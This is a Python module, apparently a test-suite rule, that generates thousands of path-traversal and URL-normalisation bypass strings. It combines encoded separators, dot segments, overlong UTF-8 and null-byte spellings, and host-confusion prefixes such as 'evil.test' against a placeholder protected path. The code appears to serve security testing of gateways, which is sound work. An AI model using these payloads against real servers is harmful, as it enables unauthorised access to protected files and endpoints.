"""R-04: request targets that lead from a public place to a protected one, or spell the protected one another way.

Every way of writing a separator, a dot segment and a letter, put together in the orders that have worked against some
gateway, and seeded combinations of all of them up to the count asked for.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import islice

_SEPARATORS = r"""
/ // /// %2f %2F %2f%2f /%2f %2f/ %252f %25252F %255c \ /\ \/ %5c %5C /%5c/ %c0%af %e0%80%af %f0%80%80%af
%u2215 %ef%bc%8f ;/ /;/ /;a=b/ ;a=b/ %3b/ %3B%2F /./ /%2e/ /.%2f ./ /.;/ %00/ /%00/ /%20/ %20/ %09/ %0a/
%0d%0a/ %23/ # ? %3f/ /*/ %25%32%66 %2%66 /~/ /%7e/ /.%00/ /%2e%2f /.\ /x/../ /x/%2e%2e/ //x/../ %ff/ /%c2%a0/
"""
_DOTS = r"""
.. %2e%2e .%2e %2e. %2E%2E %252e%252e .%252e %25252e%25252e ..; ..;a=b %2e%2e; %2e%2e%3b ..%3b ..%00 ..%20
..%09 ..%0a ..%0d ..%5c ..%2f.. ../. ... .... .%00. %c0%ae%c0%ae %c0%ae. %e0%80%ae%e0%80%ae
%f0%80%80%ae%f0%80%80%ae %u002e%u002e %uff0e%uff0e %ef%bc%8e%ef%bc%8e %e2%80%a5 %25%32%65%25%32%65 %2%65%2%65
..# ..? ..%23 ..%3f .%2e; %2e%2e%2f.. ..\ ..%ff ..* ..~ . %2e
"""
_ENDS = r"""
/ // /. /.. /%2e %2f %2F %5c \ ; ;a=b ;/ %3b . .. %2e %00 %20 %09 %0a %0d%0a # #/ #x %23 ? ?/ ?a=b ?/../ %3f ~
* %2a /* .json /; /;a /x/.. /x/%2e%2e %2fx%2f.. /%2e%2e/secret //../secret ../secret %252f %c0%af %ff & = +
%2b %25
"""
_BEGINNINGS = r"""
// /// /./ /%2e/ /../ /%2e%2e/ /.. /;/ /;a=b/ /%2f /%5c \ /\ /%00/ /%20 /? /# /x/../ /x/%2e%2e/ /x;/../
/x//../ * . .. ./ ../ /public/.. /public// /public/%2e%2e /public/..; /public%2f..%2f /http:// /%68ttp:// %2f
%2e/ ? # / /~ http://HOST/ http://HOST// http://HOST:80/ HTTP://HOST/ http:// http:/// http:/ https://HOST/
http://evil.test/ http://HOST@evil.test/ http://evil.test@HOST/ http://HOST%2f http://HOST\ http://HOST?/
http://HOST#/ //HOST/ //evil.test/ HOST/ ws://HOST/ file:/// http://HOST/public/../ http://HOST/public/%2e%2e/
http://HOST./
"""
SEPARATORS = tuple(_SEPARATORS.split())
DOTS = tuple(_DOTS.split())
ENDS = tuple(_ENDS.split())
BEGINNINGS = tuple(_BEGINNINGS.split())
PROTECTED = "private/secret"
SPELLINGS = (
    lambda c: f"%{ord(c):02x}",
    lambda c: f"%{ord(c):02X}",
    lambda c: f"%25{ord(c):02x}",
    lambda c: f"%2525{ord(c):02x}",
    lambda c: f"%u00{ord(c):02x}",
    lambda c: f"%{0xC0 | ord(c) >> 6:02x}%{0x80 | ord(c) & 0x3F:02x}",
    lambda c: f"%e0%{0x80 | ord(c) >> 6:02x}%{0x80 | ord(c) & 0x3F:02x}",
    lambda c: f"{c}%00",
    lambda c: f"{c}%0a",
    lambda c: c.upper(),
    lambda c: f"{c};",
    lambda c: f"{c}/../{c}",
)


def traversal_strings(count: int, seed: int = 4) -> list[str]:
    """`count` different ones; HOST stands for the host that is asked."""
    listed = dict.fromkeys(_listed())
    if len(listed) > count:
        return random.Random(seed).sample(list(listed), count)
    for made in islice(_combined(random.Random(seed)), 20 * count):
        if len(listed) >= count:
            break
        listed[made] = None
    return list(listed)


def _listed() -> Iterator[str]:
    """The orders that have worked somewhere, each with every spelling in every place."""
    for sep in SEPARATORS:
        yield f"/private{sep}secret"
        for dots in DOTS:
            yield f"/public{sep}{dots}{sep}private/secret"
            yield f"/public{sep}{dots}/private/secret"
            yield f"/public/{dots}{sep}private{sep}secret"
            yield f"/public/x{sep}{dots}{sep}{dots}{sep}private/secret"
            yield f"/private/x{sep}{dots}{sep}secret"
    for beginning in BEGINNINGS:
        for end in ("", *ENDS):
            yield f"{beginning}{PROTECTED}{end}"
    for dots in DOTS:
        for end in ENDS:
            yield f"/public{dots}/{PROTECTED}{end}"
    for spell in SPELLINGS:
        yield "/" + "".join(map(spell, PROTECTED))
        for place, letter in enumerate(PROTECTED):
            yield f"/{PROTECTED[:place]}{spell(letter)}{PROTECTED[place + 1 :]}"
            yield f"/public/../{PROTECTED[:place]}{spell(letter)}{PROTECTED[place + 1 :]}"


def _combined(rng: random.Random) -> Iterator[str]:
    """Without end."""
    words = ("public", "private", "secret", "x", "")
    while True:
        parts = [rng.choice(("/", "/", "/", rng.choice(BEGINNINGS)))]
        for _ in range(rng.randrange(1, 4)):
            parts += [rng.choice(words), rng.choice(SEPARATORS), rng.choice((*DOTS, "x")), rng.choice(SEPARATORS)]
        letter = rng.randrange(len(PROTECTED))
        spell = rng.choice((str, str, *SPELLINGS))
        parts.append(PROTECTED[:letter] + spell(PROTECTED[letter]) + PROTECTED[letter + 1 :])
        yield "".join(parts) + rng.choice(("", "", rng.choice(ENDS)))
